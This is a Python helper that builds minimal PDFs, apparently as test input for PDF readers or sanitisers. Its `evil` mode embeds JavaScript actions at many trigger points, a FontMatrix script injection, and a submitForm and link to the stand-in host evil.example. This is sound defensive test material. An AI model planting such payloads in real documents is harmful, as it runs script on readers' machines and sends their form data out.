"""PDF written by hand: pages of one line each, and whatever else a document may try."""

from __future__ import annotations

from collections.abc import Sequence


def document(lines: Sequence[str], *, evil: bool = False) -> bytes:
    """A page for each line. An `evil` one has scripts at every place that can have one, and asks for an address."""
    script = "(app.alert\\('owned'\\); parent.document.title = 'owned'; this.submitForm\\('https://evil.example/'\\))"
    action = f"<< /S /JavaScript /JS {script} >>"
    objects = {
        1: "<< /Type /Catalog /Pages 2 0 R"
        + (f" /OpenAction {action} /AA << /WC {action} >> /Names << /JavaScript 5 0 R >>" if evil else "")
        + " >>",
        3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica"
        # A matrix that is a text was run as script by readers of old.
        + (" /FontMatrix [1 0 0 1 0 (0\\); document.title = 'owned' //)]" if evil else "")
        + " >>",
        4: f"<< /Type /Action /S /URI /URI (https://evil.example/) /Next {action} >>",
        5: f"<< /Names [(a) {action}] >>",
    }
    pages = []
    for number, line in enumerate(lines):
        page, content = 10 + 2 * number, 11 + 2 * number
        text = f"BT /F1 28 Tf 60 700 Td ({line}) Tj ET"
        links = "[<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A 4 0 R >>]" if evil else "[]"
        more = f"/AA << /O {action} >>" if evil else ""
        objects[page] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {content} 0 R /Annots {links} {more} "
            "/Resources << /Font << /F1 3 0 R >> >> >>"
        )
        objects[content] = f"<< /Length {len(text)} >>\nstream\n{text}\nendstream"
        pages.append(f"{page} 0 R")
    objects[2] = f"<< /Type /Pages /Count {len(lines)} /Kids [{' '.join(pages)}] >>"
    made, places = b"%PDF-1.7\n", {}
    for number in sorted(objects):
        places[number] = len(made)
        made += f"{number} 0 obj\n{objects[number]}\nendobj\n".encode("latin-1")
    table = len(made)
    size = max(objects) + 1
    entries = [
        f"{places[number]:010d} 00000 n \n" if number in places else "0000000000 65535 f \n" for number in range(size)
    ]
    made += f"xref\n0 {size}\n{''.join(entries)}trailer\n<< /Size {size} /Root 1 0 R >>\n".encode()
    return made + f"startxref\n{table}\n%%EOF\n".encode()
